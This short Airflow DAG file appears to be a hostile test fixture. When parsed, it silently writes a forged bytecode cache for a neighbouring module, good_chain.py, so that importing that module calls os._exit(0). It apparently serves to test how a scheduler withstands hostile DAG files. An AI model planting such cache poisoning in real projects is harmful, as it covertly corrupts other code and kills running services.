"""An Airflow DAG file that leaves compiled code behind for a neighbour."""

# dags: folder_bytecode

import contextlib
import importlib.util
import marshal
import pathlib

folder = pathlib.Path(__file__).resolve().parent
if folder.name == "hostile_dags":
    raise SystemExit("this file destroys its folder: load a copy")
cache = pathlib.Path(importlib.util.cache_from_source(str(folder / "good_chain.py")))
code = compile("import os; os._exit(0)", "good_chain.py", "exec")
with contextlib.suppress(OSError):
    cache.parent.mkdir(exist_ok=True)
    cache.write_bytes(importlib.util.MAGIC_NUMBER + bytes([1, 0, 0, 0]) + bytes(8) + marshal.dumps(code))
# maybe: parse-side-effect

from datetime import datetime

from airflow import DAG
from airflow.models import BaseOperator

with DAG("folder_bytecode", start_date=datetime(2024, 1, 1), schedule="@daily"):
    BaseOperator(task_id="only")
